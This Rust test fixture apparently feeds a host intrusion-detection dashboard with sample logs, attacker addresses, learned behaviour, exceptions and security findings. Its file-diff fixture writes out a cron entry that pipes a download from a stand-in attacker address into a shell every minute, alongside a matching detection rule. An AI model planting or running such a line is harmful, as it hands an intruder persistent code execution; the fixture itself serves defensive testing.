//! The same host, for tests: what its views ask for.

use chrono::TimeDelta;

use crate::fixtures::now;
use bartizan_model::*;
use bartizan_protocol::{FileDiff, FindingsPage, Reply};

fn before(seconds: i64) -> Timestamp {
    now() - TimeDelta::seconds(seconds)
}

fn log(name: &str, format: &str, state: LogState, lines: u64) -> LogSource {
    LogSource {
        name: HostText::from(name),
        format: format.to_owned(),
        state,
        lines,
        parsed: lines * 9 / 10,
        unparsed: lines / 10,
        cut: 0,
        records: lines / 4,
        skipped: 0,
        lag: Some(lines * 3),
        last_line: (lines > 0).then(|| before(4)),
        samples: Vec::new(),
        set_aside: Vec::new(),
        set_aside_count: 0,
        trouble: None,
        troubles: 0,
    }
}

pub(crate) fn logs() -> Vec<LogSource> {
    let behind = LogSource {
        samples: vec![HostText::from("10.0.0.9 - - weird")],
        ..log("/var/log/nginx/access.log", "combined", LogState::Behind, 182_004)
    };
    let unreadable = LogSource {
        trouble: Some("Permission denied (os error 13)".to_owned()),
        troubles: 3,
        ..log("/var/log/mail.log", "postfix", LogState::Unreadable, 0)
    };
    vec![log("/var/log/auth.log", "sshd", LogState::Following, 4_310), behind, unreadable]
}

pub(crate) fn attackers() -> Vec<Attacker> {
    let one = |address: &str, attempts| Attacker {
        address: address.parse().unwrap(),
        attempts,
        accounts: attempts / 7,
        first: Some(before(7_200)),
        last: Some(before(i64::from(attempts))),
        strikes: 2,
        held: None,
        asked: None,
        elsewhere: None,
    };
    let hold = Hold { action: ActionId(12), kind: ActionKind::BlockAddress, until: now() + TimeDelta::seconds(552) };
    vec![
        Attacker { held: Some(hold), ..one("203.0.113.66", 412) },
        Attacker { asked: Some(ApprovalId(6)), ..one("2001:db8::bad:cafe", 98) },
        Attacker { elsewhere: Some("fail2ban (set addr-set-sshd of table inet f2b-table)".to_owned()), ..one("198.51.100.23", 41) },
        one("192.0.2.77", 6),
    ]
}

fn habit(id: u64, reason: HabitReason, kind: HabitKind, exe: &str, value: &str) -> Habit {
    Habit {
        id: HabitId(id),
        profile: Profile {
            exe: HostText::from(exe),
            below: Some(ServiceRole::WebServer),
            unit: Some("nginx.service".to_owned()),
            user: HostText::from("www-data"),
            container: None,
        },
        kind,
        value: HostText::from(value),
        state: if reason.rank() < 9 { HabitState::Waiting } else { HabitState::Learned },
        reason,
        by: "bartizan".to_owned(),
        first: before(86_400),
        last: before(600),
        count: 3 * id,
        days: 2,
    }
}

pub(crate) fn review() -> BaselineReview {
    BaselineReview {
        status: BaselineStatus {
            began: Some(before(864_000)),
            ends: Some(before(100)),
            version: None,
            profiles: Vec::new(),
            learned: 342,
            waiting: 4,
            rejected: 1,
            crowded: Vec::new(),
            evicted: 0,
        },
        since: Some(before(200_000)),
        waiting: vec![
            habit(37, HabitReason::Suspect, HabitKind::Destination, "/usr/bin/curl", "tcp 203.0.113.0/24:80"),
            habit(38, HabitReason::Suspect, HabitKind::Child, "/usr/bin/dash", "/usr/bin/curl"),
            habit(12, HabitReason::Service, HabitKind::Place, "/usr/sbin/nginx", "/etc/cron.d"),
            habit(41, HabitReason::Late, HabitKind::Listener, "/opt/tool/bin/tool", "tcp *:9001"),
        ],
        more: 0,
        learned: vec![habit(9, HabitReason::Observed, HabitKind::Child, "/usr/sbin/nginx", "/usr/sbin/nginx")],
        more_learned: 30,
    }
}

pub(crate) fn exceptions() -> Vec<Exception> {
    let one = |id, reason: &str, until| Exception {
        id: ExceptionId(id),
        scope: ExceptionScope {
            source: Some("credential_read".to_owned()),
            exe: Some(HostText::from("/usr/bin/restic")),
            unit: Some("backup.service".to_owned()),
            ..ExceptionScope::default()
        },
        reason: reason.to_owned(),
        author: "root via uid 0".to_owned(),
        added: before(172_800),
        until,
        removed: None,
    };
    let end = ExceptionEnd { at: before(3_600), by: "ann via uid 1000".to_owned(), reason: "no longer needed".to_owned() };
    vec![
        one(2, "the old backup", before(4_000)),
        Exception { removed: Some(end), ..one(3, "a test", now() + TimeDelta::days(9)) },
        one(4, "the backup reads every file", now() + TimeDelta::days(20)),
    ]
}

/// Changes of files: a cron job of the attack, one that a package explains, and one that nobody saw.
pub(crate) fn files() -> Vec<Event> {
    let one = |id: u64, path: &str, sentence: &str, process: Option<Process>| {
        let integrity = FileIntegrity {
            sentence: sentence.to_owned(),
            changes: 1,
            version: 4,
            findings: Vec::new(),
            packages: Vec::new(),
            late: false,
        };
        let mut file = FileChange::new(HostText::from(path), FileChangeKind::Modified);
        file.integrity = Some(Box::new(integrity));
        Event {
            id: EventId(id),
            at: before(i64::try_from(id).unwrap() * 700),
            kind: EventKind::FileChange { file },
            process: process.map(std::sync::Arc::new),
            source: Source::Fanotify,
            complete: true,
        }
    };
    let shell = Process {
        exe: HostText::from("/usr/bin/dash"),
        argv: vec![HostText::from("sh"), HostText::from("-c"), HostText::from("echo x > /etc/cron.d/sync")],
        user: Some(HostText::from("www-data")),
        uid: 33,
        ..Process::unknown(crate::fixtures::key(2214), before(40))
    };
    let dpkg = Process { exe: HostText::from("/usr/bin/dpkg"), ..Process::unknown(crate::fixtures::key(3001), before(900)) };
    let mut cron = one(1, "/etc/cron.d/sync", "new file, 48 bytes, owner root, mode 644", Some(shell));
    let mut unseen = one(3, "/etc/ssh/sshd_config", "content changed: 3,224 to 3,261 bytes", None);
    let mut package = one(2, "/usr/bin/curl", "content changed", Some(dpkg));
    let change = |row: &mut Event, edit: &dyn Fn(&mut FileIntegrity)| {
        if let EventKind::FileChange { file } = &mut row.kind {
            edit(file.integrity.as_mut().unwrap());
        }
    };
    let danger = FileFinding {
        rule: "cron_download".to_owned(),
        technique: "T1053.003".to_owned(),
        sentence: "it fetches a program and runs it every minute".to_owned(),
    };
    change(&mut cron, &|seen| seen.findings = vec![danger.clone()]);
    change(&mut unseen, &|seen| seen.late = true);
    change(&mut package, &|seen| seen.packages = vec![HostText::from("curl")]);
    vec![unseen, package, cron]
}

/// How the cron job differs from the baseline.
pub(crate) fn diff() -> FileDiff {
    FileDiff {
        path: HostText::from("/etc/cron.d/sync"),
        change: Some("/etc/cron.d/sync: new file".to_owned()),
        diff: Some("@@ -0,0 +1,1 @@\n+* * * * * root curl 203.0.113.66/x | sh\n".to_owned()),
    }
}

pub(crate) fn findings() -> FindingsPage {
    let one = |id: &str, severity, rule: &str, title: &str, location: &str, state| Finding {
        id: id.to_owned(),
        severity,
        title: title.to_owned(),
        source: "host".to_owned(),
        rule: rule.to_owned(),
        aliases: vec!["CWE-521".to_owned()],
        location: HostText::from(location),
        line: Some(34),
        evidence: HostText::from("PermitRootLogin yes"),
        why: "whoever guesses one password has the whole host".to_owned(),
        fix: "set PermitRootLogin prohibit-password, then systemctl reload ssh".to_owned(),
        first_seen: before(864_000),
        last_seen: before(3_600),
        state,
    };
    let accepted = FindingState::Accepted { until: now() + TimeDelta::days(9), reason: "behind a VPN".to_owned(), by: "root".to_owned() };
    FindingsPage {
        findings: vec![
            one(
                "F0a1b2c3d4e5f",
                Severity::High,
                "sshd-root-login",
                "root may log in by password",
                "/etc/ssh/sshd_config",
                FindingState::Open,
            ),
            one("F1a1b2c3d4e5f", Severity::Low, "tmp-noexec", "programs may run from /tmp", "/tmp", FindingState::Open),
            one("F2a1b2c3d4e5f", Severity::Medium, "sshd-forwarding", "X11 is forwarded", "/etc/ssh/sshd_config", accepted),
        ],
        more: 12,
        verdict: "NOT PASSED: open findings: 1 high, 1 low".to_owned(),
        scanned: Some(before(3_600)),
    }
}

/// The answers to all that views ask for.
pub(crate) fn replies() -> Vec<Reply> {
    vec![
        Reply::Logs(logs()),
        Reply::Attackers(attackers()),
        Reply::BaselineReview(Box::new(review())),
        Reply::Exceptions(exceptions()),
        Reply::Findings(Box::new(findings())),
    ]
}
